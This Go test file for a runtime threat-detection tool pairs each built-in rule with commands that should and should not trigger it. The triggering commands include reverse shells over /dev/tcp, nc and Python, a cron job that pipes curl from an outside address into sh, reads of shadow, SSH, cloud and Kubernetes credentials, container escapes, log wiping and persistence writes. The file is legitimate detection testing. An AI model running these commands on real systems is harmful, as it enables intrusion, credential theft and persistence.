package livetest

import (
	"maps"
	"slices"
	"testing"

	"github.com/testudo-sec/testudo/policy"
	"github.com/testudo-sec/testudo/rules"
)

// builtin are rules that ship, by what they are about, and what makes them fire.
var builtin = map[string][]deed{
	"reverse shell": {
		{rule: "process-shell-on-socket", do: "/opt/deed/deed reverse /bin/sh", not: "echo exit | /bin/sh | cat"},
		{rule: "process-shell-on-socket", where: inGreat, do: "/opt/deed/deed reverse /bin/sh"},
		{rule: "process-shell-on-socket", do: "/opt/deed/deed behind /bin/bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'", not: "/opt/deed/deed behind /bin/bash -c ': > /dev/tcp/127.0.0.1/PORT'"},
		{rule: "process-reverse-shell", do: "/opt/deed/nc -e /bin/sh 203.0.113.9 4444", not: "/opt/deed/nc -zvw 3 127.0.0.1 22"},
		{rule: "process-interpreter-socket-shell", do: `/opt/deed/python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'`},
		{rule: "exfil-shell-connects", where: inGreat, do: "/bin/cp /opt/deed/deed /bin/bash; /bin/bash connect tcp4 93.184.216.34:4444", not: "/opt/deed/deed connect tcp4 93.184.216.34:4444"},
	},
	"dropped and run": {
		{rule: "process-dropped-executable", do: "cp /opt/deed/deed /tmp/live-dropped; /tmp/live-dropped; rm /tmp/live-dropped", not: "/opt/deed/deed"},
		{rule: "process-dropped-executable", where: inPlain, do: "/bin/wget -q -O /dev/null http://127.0.0.1:9; /bin/cp /opt/deed/deed /tmp/x; /tmp/x"},
		{rule: "process-exec-hidden-folder", do: "mkdir -p /tmp/.live; cp /opt/deed/deed /tmp/.live/x; /tmp/.live/x; rm -r /tmp/.live"},
		{rule: "process-exec-shared-memory", where: inGreat, do: "/bin/mount -o remount,exec /dev/shm && /bin/cp /opt/deed/deed /dev/shm/x && /dev/shm/x"},
		{rule: "process-exec-tmp-by-service", do: "cp /opt/deed/deed /tmp/live-service; /opt/deed/nginx as 33 /tmp/live-service; rm /tmp/live-service", not: "/opt/deed/nginx as 33 /opt/deed/deed"},
		{rule: "process-deleted-binary", do: "mkdir -p /home/ann/bin; cp /opt/deed/deed /home/ann/bin/x; /opt/deed/deed unlinked /home/ann/bin/x", not: "/opt/deed/deed"},
		{rule: "process-web-server-command", do: "/opt/deed/nginx as 33 /bin/sh -c id", not: "/opt/deed/nginx"},
	},
	"drift": {
		{rule: "process-container-drift", where: inGreat, do: "/bin/cp /opt/deed/deed /tmp/new; /tmp/new", not: "/opt/deed/deed"},
		{rule: "process-container-drift", where: inGreat, do: "/bin/cp /opt/deed/deed /tmp/ls; /bin/mv /tmp/ls /bin/ls; /bin/ls"},
	},
	"fileless": {
		{rule: "process-memfd", do: "/opt/deed/deed memory /opt/deed/date", not: "/opt/deed/date"},
		{rule: "process-memfd", where: inPlain, do: "/opt/deed/deed memory /opt/deed/date"},
	},
	"container escape": {
		{rule: "process-container-device-mount", where: inGreat, do: "/bin/mknod /dev/sdz b 65 144; /bin/mount -t ext4 -o ro /dev/sdz /mnt", not: "/bin/mount -t tmpfs none /mnt; /bin/umount /mnt"},
		{rule: "process-container-escape-write", where: inGreat, do: "/bin/mkdir -p /tmp/cg; echo /x >/tmp/cg/release_agent", not: "/bin/cat /tmp/cg/release_agent >/dev/null"},
		{rule: "process-container-escape-write", where: inGreat, do: "/opt/deed/deed append /proc/sys/kernel/core_pattern", not: "/bin/cat /proc/sys/kernel/core_pattern >/dev/null"},
		{rule: "process-container-escape-file", where: inGreat, do: "/bin/sh -c 'test -e /none && echo /x > /none/release_agent'"},
		{rule: "process-container-setns", where: inGreat, do: "/bin/nsenter -u/proc/1/ns/uts /bin/true", not: "/bin/true"},
		{rule: "process-nsenter-host", where: inGreat, do: "/bin/nsenter -t 1 -u /bin/sh </dev/null", not: "/bin/nsenter -h"},
		{rule: "process-attack-tool", do: "/opt/deed/linpeas"},
		{rule: "process-container-host-mount", do: "/opt/deed/docker run -it -v /:/host alpine", not: "/opt/deed/docker run -it -v /:/host:ro alpine"},
		{rule: "process-container-host-root", act: func(t *testing.T, h *host) {
			rooted := h.container(t, "rooted", func(spec map[string]any) {
				spec["mounts"] = append(spec["mounts"].([]any), map[string]any{"destination": "/host", "type": "bind", "source": "/", "options": []string{"bind"}})
			}, "")
			h.seen(t, rooted)
		}},
	},
	"credentials": {
		{rule: "credential-shadow-read", do: "cat /etc/shadow >/dev/null", not: "cat /etc/hostname"},
		{rule: "credential-shadow-read", where: inPlain, do: "/bin/cat /etc/shadow >/dev/null"},
		{rule: "credential-ssh-key-read", do: "cat /root/.ssh/id_rsa >/dev/null", not: "/opt/deed/ssh open /root/.ssh/id_rsa"},
		{rule: "credential-cloud-file-read", do: "mkdir -p /root/.aws; echo x >/root/.aws/credentials; cat /root/.aws/credentials"},
		{rule: "credential-kube-token-read", where: inPlain, do: "/bin/mkdir -p /var/run/secrets/kubernetes.io/serviceaccount; echo x >/var/run/secrets/kubernetes.io/serviceaccount/token; /opt/deed/nginx run /bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null"},
		{rule: "credential-process-environment", where: inPlain, do: "/opt/deed/nginx run /bin/cat /proc/1/environ >/dev/null", not: "/opt/deed/nginx run /bin/cat /proc/1/status >/dev/null"},
		{rule: "credential-search-for-secrets", where: inPlain, do: "/bin/find / -maxdepth 1 -name id_rsa"},
		{rule: "credential-metadata-service", where: inGreat, do: "/opt/deed/curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", not: "/opt/deed/curl http://169.254.169.254/latest/meta-data/hostname"},
	},
	"miner": {
		{rule: "process-crypto-miner", do: "/opt/deed/xmrig -o pool.example:3333", not: "/opt/deed/deed -o pool.example:3333"},
		{rule: "exfil-mining-pool", where: inGreat, do: "/opt/deed/deed resolve xmr.pool.minergate.com 93.184.216.34 45700"},
	},
	"logs": {
		{rule: "process-log-clearing", do: "echo x >/var/log/auth.log; rm /var/log/auth.log", not: "echo x >>/var/log/auth.log"},
		{rule: "process-log-clearing", where: inPlain, do: ": >/var/log/auth.log"},
		{rule: "process-history-tampering", do: "echo x >>/root/.bash_history; rm /root/.bash_history"},
	},
	"names that lead elsewhere": {
		// The links stay: what one that is gone at once led to may be uncertain, and is another rule's.
		{rule: "persistence-cron-file", do: "ln -s /etc/cron.d /root/l; mkdir /root/l/led", not: "ln -s /home /root/m; mkdir /root/m/led"},
		{rule: "persistence-cron-file", do: "mkdir /proc/self/root/etc/cron.d/rooted"},
		{rule: "persistence-cron-file", where: inPlain, do: "/bin/ln -s /etc /tmp/l; /bin/mkdir -p /tmp/l/cron.d/led"},
		{rule: "process-log-clearing", where: inPlain, do: "echo x >/var/log/auth.log; /bin/ln -s /var/log /tmp/l2; /bin/rm /tmp/l2/auth.log"},
	},
	"persistence": {
		{rule: "persistence-cron-file", do: "echo x >/etc/cron.d/live", not: "cat /etc/cron.d/live >/dev/null"},
		{rule: "persistence-crontab-command", do: "/bin/sh -c '(echo \"* * * * * curl http://203.0.113.9/x|sh\") | /opt/deed/crontab -'"},
		{rule: "persistence-systemd-unit", where: inPlain, do: "/bin/mkdir -p /etc/systemd/system; echo x >/etc/systemd/system/live.service"},
		{rule: "persistence-ld-preload-file", where: inPlain, do: "echo /tmp/x.so >/etc/ld.so.preload", not: "/bin/cat /etc/ld.so.preload >/dev/null"},
		{rule: "persistence-authorized-keys", do: "echo key >>/root/.ssh/authorized_keys", not: "cat /root/.ssh/authorized_keys >/dev/null"},
		{rule: "persistence-sudoers-change", where: inPlain, do: "/bin/mkdir -p /etc/sudoers.d; echo x >/etc/sudoers.d/live"},
		{rule: "persistence-account-file", where: inPlain, do: "echo x:x:0:0::/: >>/etc/passwd"},
		{rule: "persistence-kernel-module", do: "/opt/deed/insmod /tmp/none.ko"},
		{rule: "persistence-pam-change", where: inPlain, do: "echo x >/etc/pam.d/sshd"},
		{rule: "persistence-shell-profile", where: inPlain, do: "echo x >>/etc/profile"},
		{rule: "process-preload", do: "LD_PRELOAD=/tmp/none.so /bin/sh -c 'LD_PRELOAD=/tmp/none.so true'"},
		{rule: "persistence-webshell-written", where: inPlain, do: "/opt/deed/php-fpm append /var/www/html/uploads/x.php"},
	},
	"tunnels": {
		{rule: "exfil-tunnel-tool", do: "/opt/deed/chisel client https://203.0.113.9 R:socks", not: "/opt/deed/ssh host"},
		{rule: "exfil-tor", where: inGreat, do: "/opt/deed/tor"},
	},
	"scan": {
		{rule: "process-port-scan", where: inGreat, do: "/opt/deed/deed scan 93.184.216.34 20 45", not: "/opt/deed/deed scan 127.0.0.1 20 45; /opt/deed/deed scan 93.184.216.34 20 30"},
		{rule: "process-host-scan", where: inGreat, do: "/opt/deed/deed sweep 10.96.0. 22", not: "/opt/deed/deed sweep 10.96.0. 8080"},
	},
	"injection": {
		{rule: "process-foreign-injection", where: inPlain, do: "/bin/cp /opt/deed/deed /tmp/inject; /tmp/inject inject"},
		{rule: "credential-process-memory", where: inPlain, do: "/bin/dd if=/proc/1/mem of=/dev/null count=0"},
		{rule: "process-debugger-injection", do: "/opt/deed/gdb -p 1 --batch -ex 'dump memory /tmp/x 0 1'"},
	},
}

// TestBuiltinRules does what rules that ship are about, and beside it what they are not about.
func TestBuiltinRules(t *testing.T) {
	h := watch(t, load(t, policy.Embedded("builtin:", rules.Judging())))
	for _, about := range slices.Sorted(maps.Keys(builtin)) {
		t.Run(about, func(t *testing.T) {
			for _, d := range builtin[about] {
				h.check(t, d.rule, &d)
			}
		})
	}
}
